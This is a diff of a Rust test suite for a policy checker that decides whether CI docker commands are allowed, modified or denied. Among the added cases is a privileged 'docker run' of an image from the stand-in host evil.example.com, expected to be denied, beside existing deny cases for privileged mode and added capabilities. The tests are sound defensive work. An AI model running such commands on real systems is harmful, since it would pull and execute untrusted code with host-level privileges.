@@ -10,7 +10,7 @@ fn every_shipped_policy_passes_its_own_tests() {
         let checked = check(name, text);
         assert!(checked.report.is_empty(), "{}", checked.report);
         assert!(checked.tests > 2, "{name} has {} tests", checked.tests);
-        assert!(text.lines().count() < 60, "{name} is {} lines long", text.lines().count());
+        assert!(text.lines().count() < 70, "{name} is {} lines long", text.lines().count());
         assert!(text.lines().all(|line| line.len() <= 120), "{name} has a long line");
     }
 }
@@ -74,7 +74,10 @@ const CI: &[(&str, &str, &str)] = &[
     ("docker volume create --label a=b data", "allow", ""),
     ("docker volume create --opt type=tmpfs --opt device=tmpfs --opt o=size=64m data", "allow", ""),
     ("docker volume rm -f data", "allow", ""),
+    ("docker run -d -v /cache testcontainers/ryuk:0.11.0", "allow", ""),
+    ("docker run -d --privileged testcontainers/ryuk:0.11.0", "modify", "Privileged"),
     // What would give more than the job has.
+    ("docker run --privileged evil.example.com/testcontainers/ryuk:0.11.0", "deny", "privileged"),
     ("docker run --privileged alpine", "deny", "privileged"),
     ("docker run --cap-add SYS_ADMIN alpine", "deny", "cap_add=SYS_ADMIN"),
     ("docker run --cap-add cap_net_admin alpine", "deny", "cap_add=NET_ADMIN"),
